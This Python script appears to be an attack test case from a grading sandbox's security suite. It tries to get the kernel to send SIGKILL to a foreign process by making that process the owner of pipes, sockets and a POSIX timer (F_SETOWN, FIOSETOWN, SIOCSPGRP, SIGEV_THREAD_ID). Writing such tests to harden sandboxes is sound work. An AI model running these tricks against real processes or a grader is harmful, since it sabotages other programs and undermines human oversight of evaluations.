# attack: makes a foreign process the owner of a pipe, socket, timer or terminal, so that the kernel itself sends it SIGKILL
# exercise: ex01_map_dataset
# check: ex01.tabular.len
import ctypes
import fcntl
import os
import signal
import socket
import struct
import time

pid = int("@PID@")
libc = ctypes.CDLL(None, use_errno=True)
for make in (os.pipe, lambda: [s.detach() for s in socket.socketpair()]):
    for setting in ("F_SETOWN", "F_SETOWN_EX process", "F_SETOWN_EX thread", "FIOSETOWN", "SIOCSPGRP"):
        read, write = make()
        try:
            if setting == "F_SETOWN":
                fcntl.fcntl(read, fcntl.F_SETOWN, pid)
            elif setting.startswith("F_SETOWN_EX"):
                fcntl.fcntl(read, 15, struct.pack("ii", setting.endswith("process"), pid))
            else:
                fcntl.ioctl(read, 0x8901 if setting == "FIOSETOWN" else 0x8902, struct.pack("i", pid))
            fcntl.fcntl(read, 10, signal.SIGKILL)  # F_SETSIG
            fcntl.fcntl(read, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
            os.write(write, b"x")
            os.close(write)
            print(setting, "owner", fcntl.fcntl(read, fcntl.F_GETOWN))
        except OSError as error:
            print(setting, error)
event = (ctypes.c_int * 16)(0, 0, signal.SIGKILL, 4, pid)  # sigevent: SIGEV_THREAD_ID
timer = ctypes.c_void_p()
print("timer", libc.timer_create(1, event, ctypes.byref(timer)), os.strerror(ctypes.get_errno()))
time.sleep(0.02)
print("TRIED")
